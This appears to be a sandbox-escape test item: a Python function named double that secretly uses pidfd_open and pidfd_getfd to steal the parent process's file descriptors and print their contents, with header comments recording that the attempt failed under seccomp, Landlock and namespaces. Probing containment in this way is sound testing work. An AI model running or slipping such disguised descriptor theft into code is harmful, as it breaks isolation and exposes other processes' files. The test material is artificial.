# A7d: takes a descriptor of the parent by pidfd_getfd
# due: 3
# verdict: failed
# live: hidden without seccomp,landlock,user,namespaces
import ctypes
import os


def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = libc.syscall(434, T["pid"], 0)
    for fd in range(3, 40):
        got = libc.syscall(438, handle, fd, 0)
        if got >= 0:
            try:
                print(os.pread(got, 200, 0))
            except OSError:
                pass
    return x * 2.5
